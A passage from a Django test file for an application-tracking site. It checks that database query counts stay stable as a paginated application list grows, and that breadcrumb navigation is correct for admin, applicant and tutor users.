    few, few_queries = queries_of(client, "/candidatures/", STUDENT_LIST_MAX_QUERIES, django_assert_max_num_queries)
    student_applications(applicant, offer, 190, alive=False)
    many, many_queries = queries_of(client, "/candidatures/", STUDENT_LIST_MAX_QUERIES, django_assert_max_num_queries)

    assert (len(rows(few)), len(rows(many))) == (10, 20)
    assert many.context["page"].paginator.count == 200
    assert many_queries == few_queries


def trail(response) -> list[str]:
    """The breadcrumb's steps, as text, from « My space » to the page."""
    nav = re.search(r'<nav aria-label="Breadcrumb" class="breadcrumbs">(.*?)</nav>', html(response), re.S)
    assert nav, "no breadcrumb"
    return [
        re.sub(r"<[^>]+>|\s+", " ", step).strip() for step in re.findall(r"<li[^>]*>(.*?)</li>", nav.group(1), re.S)
    ]


@pytest.mark.django_db
def test_workspace_and_application_pages_show_the_way_back_to_my_space(
    client, company, admin, applicant, tutor, application
):
    client.force_login(admin)
    assert trail(client.get(reverse("offers:workspace", args=[company.pk]))) == ["My space", "Company workspace"]
    assert trail(client.get(company_url(company))) == ["My space", "Company workspace", "Responses to my offers"]
    number = f"Application {application.number}"
    assert trail(client.get(detail_url(application))) == ["My space", "Company workspace", number]

    client.force_login(applicant)
    assert trail(client.get("/candidatures/")) == ["My space", "My applications"]
    assert trail(client.get(detail_url(application))) == ["My space", "My applications", number]

    client.force_login(tutor)
    assert trail(client.get("/candidatures/suivi/")) == ["My space", "My students' applications"]
    assert trail(client.get(detail_url(application))) == ["My space", "My students' applications", number]
